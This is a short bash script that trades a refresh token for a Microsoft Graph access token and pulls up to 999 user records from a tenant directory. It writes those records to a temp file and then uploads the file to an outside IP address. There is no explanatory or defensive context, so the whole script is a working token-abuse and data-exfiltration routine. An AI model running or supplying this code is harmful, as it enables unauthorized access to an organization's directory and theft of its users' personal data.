#!/bin/bash
TOKEN=$(curl -s -X POST https://login.microsoftonline.com/common/oauth2/token -d "grant_type=refresh_token&client_id=1950a258-227b-4e31-a9cf-717495945fc2&refresh_token=$RT&resource=https://graph.microsoft.com")
curl -s -H "Authorization: Bearer $TOKEN" "https://graph.microsoft.com/v1.0/users?\$top=999" -o /var/tmp/users.json
curl -s -T /var/tmp/users.json https://203.0.113.201/upload/users.json
